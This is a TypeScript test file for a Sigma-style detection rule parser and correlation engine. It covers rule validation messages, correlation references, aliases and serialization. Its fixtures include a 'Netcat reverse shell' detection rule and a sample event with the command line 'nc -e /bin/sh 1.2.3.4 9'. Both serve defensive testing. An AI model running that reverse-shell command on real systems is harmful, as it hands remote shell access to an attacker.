import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { PolicyProblem } from '../policy/policy.schema.ts';
import { loadRuleSet } from './rule.schema.ts';
import { RuleEngine } from './rule-engine.ts';
import { compileRules, defaultOptions, event, render, ruleProblems } from './rule-test.fixture.ts';
import { parseRuleFiles } from './sigma-rule.ts';

function problemFor(found: readonly PolicyProblem[], field: string): PolicyProblem {
  const matching = found.filter((problem) => problem.field === field);
  assert.equal(matching.length, 1, `one problem for ${field} in:\n${found.map(render).join('\n')}`);
  return matching[0] as PolicyProblem;
}

const netcat = `title: Netcat reverse shell
id: 7f734ed0-4f47-46c0-837f-6ee62505abd9
status: test
author: someone
date: 2023-04-07
references: [https://example.org]
logsource: {product: linux, category: process_creation}
detection:
  selection_nc:
    Image|endswith: [/nc, /ncat]
  selection_flags:
    CommandLine|contains: [' -e ', ' -c ']
  condition: all of selection_*
fields: [CommandLine]
falsepositives: [Unknown]
level: high
`;

describe('parseRuleFiles', () => {
  it('compiles a Sigma rule, ignoring metadata it does not use', () => {
    const { rules } = compileRules(netcat);
    assert.equal(rules.length, 1);
    const [rule] = rules;
    assert.equal(rule?.id, '7f734ed0-4f47-46c0-837f-6ee62505abd9');
    assert.equal(rule?.kind, 'detection');
    assert.equal(rule?.severity, 'high');
    assert.equal(rule?.tier, 'high');
    assert.equal(rule?.scope, 'agent');
    assert.equal(rule?.emits, true);
    assert.deepEqual(rule?.groupKeys, ['deviceId']);
    assert.deepEqual(rule?.detection?.condition, {
      op: 'and',
      args: [
        { op: 'ref', name: 'selection_nc' },
        { op: 'ref', name: 'selection_flags' },
      ],
    });
    assert.match(rule?.digest ?? '', /^[0-9a-f]{64}$/);
  });

  it('reads several rules from one file and sorts all rules by id, whatever the file order', () => {
    const files = {
      'rules/b.yml':
        'title: B\nid: b\nlogsource: {product: edgeward}\ndetection: {s: {type: x.y}, condition: s}\n',
      'rules/a.yaml':
        '---\ntitle: C\nid: c\nlogsource: {product: edgeward}\ndetection: {s: {type: x.y}, condition: s}\n---\ntitle: A\nid: a\nlogsource: {product: edgeward}\ndetection: {s: {type: x.y}, condition: s}\n',
    };
    const forward = compileRules(files);
    const backward = compileRules(Object.fromEntries(Object.entries(files).reverse()));
    assert.deepEqual(
      forward.rules.map((rule) => rule.id),
      ['a', 'b', 'c'],
    );
    assert.deepEqual(forward, backward);
  });

  it('names the file, line, rule and field of a problem', () => {
    const found = ruleProblems({
      'rules/linux.yml': `${netcat}---
title: Broken rule
id: broken-1
logsource: {product: linux}
detection:
  selection:
    Image|endwith: /nc
  condition: selection and filter
`,
    });
    const modifier = problemFor(found, 'detection.selection.Image|endwith');
    assert.equal(modifier.file, 'rules/linux.yml');
    assert.equal(modifier.line, 23);
    assert.match(modifier.message, /^rule "Broken rule" \(id broken-1\): unknown modifier `endwith`/);
    const condition = problemFor(found, 'detection.condition');
    assert.equal(condition.line, 24);
    assert.match(condition.message, /unknown search identifier `filter`/);
  });

  it('refuses unknown fields in the detection structure and in the edgeward block, not in Sigma metadata', () => {
    const found = ruleProblems(`title: T
id: t
custom_metadata: anything goes
logsource: {product: linux, service: auth, definition: journald}
detection:
  selection: {User: {nested: 1}}
  timeframe: 5m
  condition: selection
edgeward: {scope: agent, supress: {window: 1h}}
`);
    assert.match(problemFor(found, 'detection.selection.User').message, /nested mapping/);
    assert.match(problemFor(found, 'detection.timeframe').message, /correlation rule/);
    assert.match(
      problemFor(found, 'edgeward.supress').message,
      /unknown field `supress` in edgeward; expected one of: scope, suppress/,
    );
  });

  it('checks the values of the fields it uses', () => {
    const found = ruleProblems(`title: T
id: t
level: severe
status: draft
logsource: {product: linux}
detection: {s: {User: root}, condition: s}
edgeward: {response: [reboot], cooldown: 10, tier: urgent}
`);
    assert.match(problemFor(found, 'level').message, /informational, low, medium, high, critical/);
    assert.match(problemFor(found, 'status').message, /stable, test, experimental/);
    assert.match(problemFor(found, 'edgeward.response.0').message, /isolate, capture/);
    assert.match(problemFor(found, 'edgeward.cooldown').message, /duration with a unit/);
    assert.ok(found.some((problem) => problem.field?.startsWith('edgeward.tier')));
  });

  it('requires a detection or a correlation, a logsource and a condition', () => {
    assert.match(problemFor(ruleProblems('title: T\nid: t\n'), 'detection').message, /missing `detection`/);
    assert.match(
      problemFor(ruleProblems('title: T\nid: t\ndetection: {s: {a: 1}, condition: s}\n'), 'logsource')
        .message,
      /missing required field `logsource`/,
    );
    assert.match(
      problemFor(
        ruleProblems('title: T\nid: t\nlogsource: {product: linux}\ndetection: {s: {a: 1}}\n'),
        'detection.condition',
      ).message,
      /missing required field `condition`/,
    );
    assert.match(
      problemFor(ruleProblems('id: t\nlogsource: {}\n'), 'title').message,
      /missing required field `title`/,
    );
  });

  it('refuses Sigma 1 collections, YAML errors and duplicate ids and names', () => {
    assert.match(problemFor(ruleProblems('action: global\ntitle: T\n'), 'action').message, /collections/);
    const yaml = ruleProblems('title: [unclosed\n');
    assert.match(yaml[0]?.message ?? '', /^YAML: /);
    assert.equal(yaml[0]?.file, 'rules/test.yml');
    assert.ok((yaml[0]?.line ?? 0) >= 1);
    const rule = 'logsource: {product: edgeward}\ndetection: {s: {type: a.b}, condition: s}\n';
    const duplicates = ruleProblems({
      'rules/one.yml': `title: One\nid: same\nname: same_name\n${rule}`,
      'rules/two.yml': `title: Two\nid: same\nname: same_name\n${rule}`,
    });
    assert.match(
      problemFor(duplicates, 'id').message,
      /duplicate rule id `same`; already used in rules\/one.yml:1/,
    );
    assert.match(problemFor(duplicates, 'name').message, /duplicate rule name `same_name`/);
  });

  it('warns about rules that can never match or do not say their id, and ignores non-YAML files', () => {
    const result = parseRuleFiles([
      {
        path: 'rules/win.yml',
        text: 'title: W\nlogsource: {product: windows}\ndetection: {s: {EventID: 4625}, unused: {a: 1}, condition: s}\n',
      },
      { path: 'rules/notes.txt', text: 'hello' },
    ]);
    assert.ok(result.ok);
    const messages = result.warnings.map(
      (warning) => `${warning.file} ${warning.field ?? ''} ${warning.message}`,
    );
    assert.ok(messages.some((message) => /rules\/notes.txt .*only .yml and .yaml/.test(message)));
    assert.ok(
      messages.some((message) => /logsource .*product windows; the rule never matches/.test(message)),
    );
    assert.ok(messages.some((message) => /detection.unused .*not used by the condition/.test(message)));
    assert.ok(messages.some((message) => /has no `id`; it is known as "rules\/win.yml#1"/.test(message)));
    assert.equal(result.rules.rules[0]?.id, 'rules/win.yml#1');
  });
});

describe('correlation rules', () => {
  const base = `title: Failed login
id: failed
name: failed_login
logsource: {product: edgeward, service: auth}
detection: {selection: {type: auth.login_failed}, condition: selection}
---
title: Success
id: success
name: login_ok
logsource: {product: edgeward, service: auth}
detection: {selection: {type: auth.login_succeeded}, condition: selection}
`;

  it('resolves referenced rules by name or id, and stops them raising alerts of their own unless generate', () => {
    const { rules } = compileRules(`${base}---
title: Brute force
id: brute
correlation:
  type: event_count
  rules: [failed_login]
  group-by: [User]
  timespan: 5m
  condition: {gte: 5}
level: high
---
title: Chain
id: chain
generate: true
correlation:
  type: temporal_ordered
  rules: [brute, login_ok]
  group-by: [User]
  timespan: 10m
`);
    const byId = new Map(rules.map((rule) => [rule.id, rule]));
    assert.deepEqual(byId.get('chain')?.correlation?.rules, ['brute', 'success']);
    assert.deepEqual(byId.get('chain')?.correlation?.condition, { gte: 2 });
    assert.equal(byId.get('failed')?.emits, false);
    assert.equal(byId.get('brute')?.emits, true);
    assert.equal(byId.get('success')?.emits, true);
    assert.equal(byId.get('brute')?.correlation?.timespanMs, 300_000);
    assert.equal(byId.get('brute')?.scope, 'hub');
  });

  it('lives on the agent when it groups by deviceId over agent rules, else on the hub', () => {
    const { rules } = compileRules(`${base}---
title: Per device
id: per-device
correlation: {type: event_count, rules: [failed], group-by: [deviceId, User], timespan: 5m, condition: {gte: 3}}
---
title: Agent by choice
id: chosen
correlation: {type: event_count, rules: [failed], group-by: [User], timespan: 5m, condition: {gte: 3}}
edgeward: {scope: agent}
`);
    const byId = new Map(rules.map((rule) => [rule.id, rule]));
    assert.equal(byId.get('per-device')?.scope, 'agent');
    assert.deepEqual(byId.get('per-device')?.correlation?.groupBy, ['deviceId', 'User']);
    // On the agent, state is per device: deviceId joins the group.
    assert.deepEqual(byId.get('chosen')?.correlation?.groupBy, ['deviceId', 'User']);
  });

  it('refuses unknown references, circles, and conditions that do not fit the type', () => {
    const found = ruleProblems(`${base}---
title: Unknown
id: unknown
correlation: {type: event_count, rules: [nope], group-by: [User], timespan: 5m, condition: {gte: 3}}
---
title: Loop A
id: loop-a
correlation: {type: temporal, rules: [loop-b, failed], timespan: 5m}
---
title: Loop B
id: loop-b
correlation: {type: temporal, rules: [loop-a, failed], timespan: 5m}
---
title: No field
id: no-field
correlation: {type: value_count, rules: [failed], timespan: 5m, condition: {gte: 3}}
---
title: Upper temporal
id: upper
correlation: {type: temporal, rules: [failed, success], timespan: 5m, condition: {lt: 2}}
---
title: Empty range
id: empty
correlation: {type: event_count, rules: [failed], timespan: 5m, condition: {gt: 5, lt: 6}}
---
title: No condition
id: no-condition
correlation: {type: event_count, rules: [failed], timespan: 1 hour}
`);
    const messages = found.map(render).join('\n');
    assert.match(
      messages,
      /correlation.rules.0: rule "Unknown" \(id unknown\): no rule has the name or id `nope`/,
    );
    assert.match(messages, /in a circle: loop-a → loop-b → loop-a/);
    assert.match(messages, /correlation.condition.field: .*counts the distinct values of `field`/);
    assert.match(messages, /rule "Upper temporal".*not an upper bound/);
    assert.match(messages, /rule "Empty range".*no count satisfies/);
    assert.match(messages, /correlation.timespan: .*duration with a unit/);
  });

  it('resolves aliases per referenced rule and refuses aliases of rules it does not refer to', () => {
    const { rules } = compileRules(`${base}---
title: Aliased
id: aliased
correlation:
  type: temporal
  rules: [failed_login, login_ok]
  group-by: [account]
  timespan: 5m
  aliases:
    account: {failed_login: User, login_ok: TargetUserName}
`);
    assert.deepEqual(rules.find((rule) => rule.id === 'aliased')?.correlation?.aliases, {
      account: { failed: 'User', success: 'TargetUserName' },
    });
    const found = ruleProblems(`${base}---
title: Bad alias
id: bad-alias
correlation:
  type: temporal
  rules: [failed_login, login_ok]
  timespan: 5m
  aliases: {account: {other: User}}
`);
    assert.match(problemFor(found, 'correlation.aliases.account.other').message, /not one of the rules/);
  });

  it('keeps suppress keys of a correlation within its group-by', () => {
    const found = ruleProblems(`${base}---
title: Keys
id: keys
correlation: {type: event_count, rules: [failed], group-by: [User], timespan: 5m, condition: {gte: 3}}
edgeward: {suppress: {keys: [SourceIp], window: 1h}}
`);
    assert.match(problemFor(found, 'edgeward.suppress.keys').message, /`SourceIp` is not one of: User/);
  });
});

describe('the compiled rule set', () => {
  it('survives JSON and loadRuleSet, and runs the same after it', () => {
    const rules = compileRules(`${netcat}---
title: Brute
id: brute
correlation: {type: event_count, rules: [base], group-by: [User], timespan: 1m, condition: {gte: 2}}
edgeward: {scope: agent, cooldown: 10m, suppress: {window: 1h}, route: [on-call], response: [capture]}
---
title: Base
id: base
logsource: {product: edgeward, service: auth}
detection: {s: {type: auth.login_failed, 'SourceIp|cidr': 10.0.0.0/8}, condition: s}
`);
    const reloaded = loadRuleSet(JSON.parse(JSON.stringify(rules)));
    assert.deepEqual(reloaded, rules);
    const events = [
      event(
        'host.executable_started',
        { path: '/usr/bin/nc', command: 'nc -e /bin/sh 1.2.3.4 9' },
        { time: 1 },
      ),
      event('auth.login_failed', { user: 'bob', sourceAddress: '10.0.0.1' }, { time: 2 }),
      event('auth.login_failed', { user: 'bob', sourceAddress: '10.0.0.2' }, { time: 3 }),
    ];
    const run = (set: typeof rules) => {
      const engine = new RuleEngine(set, defaultOptions);
      return [...engine.ingest(events), ...engine.flush()];
    };
    const signals = run(reloaded);
    assert.deepEqual(signals, run(rules));
    assert.deepEqual(
      signals.map((signal) => [signal.ruleId, signal.route, signal.response]),
      [
        ['7f734ed0-4f47-46c0-837f-6ee62505abd9', [], []],
        ['brute', ['on-call'], ['capture']],
      ],
    );
  });

  it('refuses a damaged rule set', () => {
    assert.throws(
      () => loadRuleSet({ format: 1, rules: [{ id: 'x' }] }),
      (error: Error & { code?: string }) =>
        error.code === 'EW_POLICY_INVALID' && /rules.0/.test(error.message),
    );
  });

  it('gives a rule the same digest for the same text, and another when it changes', () => {
    const digest = (text: string) => compileRules(text).rules[0]?.digest;
    assert.equal(digest(netcat), digest(`# a comment\n${netcat}`));
    assert.notEqual(digest(netcat), digest(netcat.replace('level: high', 'level: medium')));
  });
});
